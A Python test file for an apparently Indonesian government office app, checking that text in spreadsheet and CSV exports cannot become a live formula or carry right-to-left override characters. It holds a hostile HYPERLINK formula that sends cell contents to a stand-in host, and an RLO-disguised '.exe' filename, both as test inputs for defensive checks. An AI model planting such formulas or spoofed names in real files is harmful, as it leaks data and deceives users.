"""A party's text never becomes a live formula in a spreadsheet Tata Usaha opens."""

import io
from types import SimpleNamespace

from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from autentika.cases.books import register_book_xlsx
from autentika.core.books import FORMULA_STARTS, book_xlsx, spreadsheet_text, workbook_bytes
from autentika.core.periods import Period

HOSTILE = '=HYPERLINK("http://penipu.example/?d="&A1,"Klik di sini")'


def test_a_subject_written_as_a_formula_stays_text_in_the_register(
    register, official_without_figures, sumut
):
    # (a letter number written as a formula is refused at registration: test_case_register.py)
    register(subject=HOSTILE)
    content = register_book_xlsx(office=sumut, period=Period.year(timezone.localdate().year))
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert "'" + HOSTILE in values


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=40))
def test_no_text_can_start_a_formula_or_break_the_export_and_other_text_is_kept(text):
    office = SimpleNamespace(name="KPU Uji")  # a book needs only the office's name
    content = book_xlsx(
        title="Uji",
        office=office,
        period=Period.year(2026),
        columns=["a", "b", "c"],
        rows=[[text, 12, -5]],
        widths=[10, 10, 10],
    )
    sheet = load_workbook(io.BytesIO(content)).active
    cell, number, negative = next(sheet.iter_rows(min_row=4))
    assert cell.data_type != "f"
    assert (number.value, negative.value) == (12, -5)  # numbers are numbers, minus included
    # control characters XLSX cannot hold and the bidirectional formatting characters (U+061C,
    # U+200E, U+200F, U+202A to U+202E, U+2066 to U+2069) are dropped; the rest is kept
    bidi = {0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)}
    kept = "".join(c for c in ILLEGAL_CHARACTERS_RE.sub("", text) if ord(c) not in bidi)
    written = cell.value or ""
    assert not written.startswith(FORMULA_STARTS)
    assert written in (kept, "'" + kept) or (not kept.strip() and not written.strip())


def test_a_right_to_left_override_stored_earlier_never_reaches_the_register(
    register, official_without_figures, sumut
):
    """Forms refuse it now (tests/core/test_text_hygiene.py); text stored before is cleaned
    on its way out."""
    register(subject="Permohonan surat\u202efdp.exe")
    content = register_book_xlsx(office=sumut, period=Period.year(timezone.localdate().year))
    sheet = load_workbook(io.BytesIO(content)).active
    values = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value]
    assert "Permohonan suratfdp.exe" in values
    assert not any("\u202e" in value for value in values)


def test_a_formula_set_by_any_export_is_escaped_when_saved():
    workbook = Workbook()
    workbook.active.append(["=1+1"])
    cell = next(load_workbook(io.BytesIO(workbook_bytes(workbook))).active.iter_rows())[0]
    assert (cell.value, cell.data_type) == ("'=1+1", "s")


def test_csv_values_are_escaped_the_same_way():
    for start in FORMULA_STARTS:
        assert spreadsheet_text(f"{start}cmd") == f"'{start}cmd"
    assert spreadsheet_text("Permohonan data") == "Permohonan data"
    assert spreadsheet_text(-3) == -3
